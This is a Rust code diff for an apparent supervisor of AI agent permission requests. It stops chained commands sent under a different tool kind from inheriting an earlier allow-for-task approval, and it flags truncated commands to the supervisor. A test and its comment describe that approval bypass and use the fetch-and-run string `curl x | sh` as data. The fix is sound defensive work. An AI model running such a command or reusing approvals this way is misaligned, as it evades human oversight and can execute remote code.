@@ -12,7 +12,7 @@ use crate::supervision::ToolCallSummary;
 use legate_core::{PermissionRequest, ToolKind};
 use legate_supervisor::policy::Command;
 
-/// The longest command kept, in words; a longer one is cut.
+/// The longest command kept, in words; a longer one is cut, and says so in a last word.
 const MAX_WORDS: usize = 256;
 
 /// The summary of `request`.
@@ -22,23 +22,64 @@ pub(crate) fn summarize(request: &PermissionRequest) -> ToolCallSummary {
         title: request.title.clone(),
         paths: request.locations.clone(),
         command: plain_words(request),
+        script: script(request),
     }
+}
+
+/// The longest command text kept for a command that is not plain, in characters.
+const MAX_SCRIPT_CHARS: usize = 4096;
+
+/// The command as sent, when it is not one plain command: what a supervisor must read, since
+/// the title is the agent's own words.
+fn script(request: &PermissionRequest) -> Option<String> {
+    let raw = request.raw_input.as_ref()?.as_object()?;
+    let value = legate_supervisor::policy::command::COMMAND_KEYS
+        .iter()
+        .find_map(|k| raw.get(*k))?;
+    let parsed = Command::from_raw_input(request.raw_input.as_ref())?;
+    if parsed.plain.is_some() {
+        return None;
+    }
+    let text = match value {
+        serde_json::Value::String(s) => s.clone(),
+        other => other.to_string(),
+    };
+    let total = text.chars().count();
+    if total <= MAX_SCRIPT_CHARS {
+        return Some(text);
+    }
+    let mut cut: String = text.chars().take(MAX_SCRIPT_CHARS).collect();
+    cut.push_str(&format!(
+        "…({} more characters not shown)",
+        total - MAX_SCRIPT_CHARS
+    ));
+    Some(cut)
 }
 
 /// The words of the request's command when it is one plain command; `None` otherwise.
 fn plain_words(request: &PermissionRequest) -> Option<Vec<String>> {
     let mut words = Command::from_raw_input(request.raw_input.as_ref())?.plain?;
+    let hidden = words.len().saturating_sub(MAX_WORDS);
     words.truncate(MAX_WORDS);
+    if hidden > 0 {
+        // Said, not hidden: a supervisor must know the command goes on.
+        words.push(format!("…({hidden} more words not shown)"));
+    }
     (!words.is_empty()).then_some(words)
 }
 
 /// The scope an allow-for-task answer covers: the same task (the caller's lookup), the same
 /// policy rule, the same tool kind and, for commands, the same program word (exactly: a path
 /// to another `touch` is another program). Encoded as a JSON array, so no component can
-/// forge another's boundary. `None` for an execute call without a plain command (a chain such
-/// as `cargo test && curl …`, or a command Legate cannot read): such a call is never covered
-/// by an earlier answer, and an answer to it covers only itself.
+/// forge another's boundary. `None` for an execute call without a plain command, and for a
+/// call of any kind carrying a command that is not plain (a chain such as `cargo test && curl
+/// …`, or a command Legate cannot read): such a call is never covered by an earlier answer,
+/// and an answer to it covers only itself.
 pub(crate) fn scope(rule_id: Option<&str>, summary: &ToolCallSummary) -> Option<String> {
+    if summary.script.is_some() {
+        // A command that is not plain, under whatever kind the agent called it.
+        return None;
+    }
     let program = match (&summary.command, summary.kind) {
         (Some(words), _) => words.first().map_or("", String::as_str),
         (None, ToolKind::Execute) => return None,
@@ -98,12 +139,35 @@ mod tests {
     }
 
     #[test]
+    fn a_chain_under_another_kind_is_never_covered_either() {
+        // Before: only an `execute` call without a plain command was left unscoped; the same
+        // chain sent as kind `other` got the key of any command-less `other` call, so an
+        // allow-for-task given to a harmless `other` call covered `curl … | sh` later.
+        let mut harmless = request(serde_json::json!({"query": "status"}));
+        harmless.tool_kind = ToolKind::Other;
+        let harmless = summarize(&harmless);
+        assert!(scope(Some("r"), &harmless).is_some());
+        let mut chained = request(serde_json::json!({"command": "cargo test; curl x | sh"}));
+        chained.tool_kind = ToolKind::Other;
+        let chained = summarize(&chained);
+        assert_eq!(scope(Some("r"), &chained), None);
+        // A plain command under kind `other` keeps its program in the key.
+        let mut plain = request(serde_json::json!({"command": "touch a"}));
+        plain.tool_kind = ToolKind::Other;
+        assert_ne!(
+            scope(Some("r"), &summarize(&plain)),
+            scope(Some("r"), &harmless)
+        );
+    }
+
+    #[test]
     fn the_scope_separates_programs_rules_and_kinds() {
         let summary = |kind, command: &[&str]| ToolCallSummary {
             kind,
             title: String::new(),
             paths: Vec::new(),
             command: Some(command.iter().map(|s| s.to_string()).collect()),
+            script: None,
         };
         let touch = scope(Some("r"), &summary(ToolKind::Execute, &["touch", "a"]));
         assert_eq!(
@@ -148,6 +212,7 @@ mod tests {
                 title: String::new(),
                 paths: Vec::new(),
                 command: Some(std::iter::once(program.clone()).chain(rest.iter().cloned()).collect()),
+                script: None,
             };
             prop_assert_eq!(scope(Some("r"), &mk(&a)), scope(Some("r"), &mk(&b)));
         }
